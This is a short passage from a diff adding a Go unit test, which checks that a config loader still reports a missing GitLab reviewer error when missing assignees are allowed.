+		}
+	})
+
+	t.Run("missing reviewer still required", func(t *testing.T) {
+		setupTestConfig(t, noReviewer)
+
+		_, err := config.LoadWithRepoRoot("", config.AllowMissingAssignee())
+		if !errors.Is(err, config.ErrGitLabReviewerEmpty) {
+			t.Errorf("Expected ErrGitLabReviewerEmpty, got: %v", err)
+		}
+	})
+}